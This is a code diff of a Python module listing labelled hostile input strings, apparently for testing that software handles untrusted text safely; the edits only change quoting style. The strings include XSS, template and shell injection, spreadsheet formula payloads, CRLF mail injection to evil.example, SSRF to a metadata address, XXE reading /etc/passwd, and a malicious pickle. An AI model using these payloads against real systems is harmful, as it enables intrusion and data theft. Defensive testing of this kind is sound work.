@@ -1,4 +1,4 @@
-"""Texts that break programs which are not careful, as somebody might type or send them; our own list, by what they aim at."""
+"""Texts that break careless programs, as somebody might type or send them: our own list, by what they aim at."""
 
 from __future__ import annotations
 
@@ -13,7 +13,7 @@ HOSTILE_TEXTS: Mapping[str, str] = {
     # Markup
     "a script": f"<script>{MARK}(1)</script>",
     "a picture that fails": f"<img src=x onerror={MARK}(1)>",
-    "the end of an attribute": f"\" onfocus={MARK}(1) autofocus x=\"",
+    "the end of an attribute": f'" onfocus={MARK}(1) autofocus x="',
     "the end of an attribute, single quotes": f"' onmouseover='{MARK}(1)",
     "the end of a title": f"</title></textarea></script><svg/onload={MARK}(1)>",
     "an address that runs": f"javascript:{MARK}(1)",
@@ -23,7 +23,7 @@ HOSTILE_TEXTS: Mapping[str, str] = {
     "CDATA": f"]]>{MARK}<![CDATA[",
     # Templates and formats
     "a template of Jinja": f"{MARK}{{{{7*7}}}}{{{{config}}}}{{% raw %}}",
-    "a template of Typst": f"#{{let {MARK} = read(\"/etc/passwd\")}} $x$ @ref *b*",
+    "a template of Typst": f'#{{let {MARK} = read("/etc/passwd")}} $x$ @ref *b*',
     "a format of printf": f"%s%n%x%d%%{MARK}%(name)s",
     "a format of Python": f"{{0.__class__}}{{{MARK}}}{{}}",
     "a variable of a shell": f"$(id) `id` ${{IFS}} ; id | id && id {MARK}",
@@ -38,7 +38,7 @@ HOSTILE_TEXTS: Mapping[str, str] = {
     "a backslash at the end": f"{MARK}\\",
     # Spreadsheets
     "a formula": f"=cmd|' /C calc'!{MARK}",
-    "a formula with plus": f"+HYPERLINK(\"https://evil.example\",\"{MARK}\")",
+    "a formula with plus": f'+HYPERLINK("https://evil.example","{MARK}")',
     "a formula with at": f"@SUM(1+1)*{MARK}",
     "a formula behind a tab": f"\t=1+{MARK}",
     # Addresses, paths, headers
@@ -47,10 +47,10 @@ HOSTILE_TEXTS: Mapping[str, str] = {
     "a device": "CON",
     "line breaks for a header": f"{MARK}\r\nSet-Cookie: {MARK}=1\r\n\r\n<b>",
     "line breaks for a mail": f"a@b.example\r\nBcc: {MARK}@evil.example",
-    "line breaks for a log": f"{MARK}\n{{\"level\": \"error\", \"event\": \"forged\"}}",
+    "line breaks for a log": f'{MARK}\n{{"level": "error", "event": "forged"}}',
     "an address inside": f"http://169.254.169.254/latest/{MARK}",
     "two addresses of mail": f"a@b.example,{MARK}@evil.example",
-    "a mail address in quotes": f"\"{MARK} <x>\"@b.example",
+    "a mail address in quotes": f'"{MARK} <x>"@b.example',
     # Characters
     "NUL": f"{MARK}\0after",
     "control characters": f"{MARK}" + "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
@@ -82,10 +82,10 @@ HOSTILE_TEXTS: Mapping[str, str] = {
     "a date before all": "0000-00-00",
     "a date after all": "99999-12-31",
     # Structures
-    "JSON": f"{{\"__proto__\": {{\"{MARK}\": true}}}}",
+    "JSON": f'{{"__proto__": {{"{MARK}": true}}}}',
     "deep JSON": "[" * 3000,
-    "XML that fetches": f"<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]><x>&y;{MARK}</x>",
-    "XML that grows": f"<!ENTITY a \"{MARK}\"><!ENTITY b \"&a;&a;&a;\">",
+    "XML that fetches": f'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;{MARK}</x>',
+    "XML that grows": f'<!ENTITY a "{MARK}"><!ENTITY b "&a;&a;&a;">',
     "a pickle": "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
     "a token that is signed by nobody": "eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.",
     # Length
